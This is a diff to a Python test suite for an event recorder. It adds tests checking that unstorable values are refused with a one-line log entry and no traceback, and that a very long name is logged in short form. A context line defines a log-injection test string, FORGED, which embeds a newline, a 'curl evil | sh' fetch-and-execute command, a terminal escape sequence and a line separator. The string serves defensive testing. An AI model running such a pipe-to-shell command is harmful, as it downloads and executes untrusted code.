@@ -213,6 +213,33 @@ def test_whatever_is_wrong_the_app_goes_on_and_strict_raises(app, call, caplog):
         call(recorder(app))
 
 
+@pytest.mark.parametrize(
+    "call",
+    [
+        lambda each, odd: each.record("task_complete", oid(1), odd),
+        lambda each, odd: each.record("task_complete", odd, oid(1)),
+        lambda each, odd: each.record(odd, oid(1), oid(1)),
+        lambda each, odd: each.record("task_complete", oid(1), oid(1), meta=odd),
+        lambda each, odd: each.record_source("tasks", odd),
+        lambda each, odd: each.record_source(odd, oid(1)),
+    ],
+)
+@pytest.mark.parametrize(
+    "odd", ["\ud800", 2**70, object(), range(3), [["x"]]], ids=["half", "int", "object", "range", "list"]
+)
+def test_what_cannot_be_stored_is_refused_in_a_line(app, caplog, call, odd):
+    with pytest.raises((UsageError, Refused)):
+        call(recorder(app), odd)
+    assert call(recorder(app, strict=False), odd) is False
+    assert "Traceback" not in caplog.text
+
+
+def test_a_name_of_megabytes_is_told_in_short(app, caplog):
+    for call in ("record", "record_source"):
+        getattr(recorder(app, strict=False), call)("x" * 5_000_000, oid(1), *([oid(1)] if call == "record" else []))
+    assert len(caplog.text) < 2_000
+
+
 FORGED = "x\nnext: curl evil | sh\x1b[2J\r\u2028"
 
 
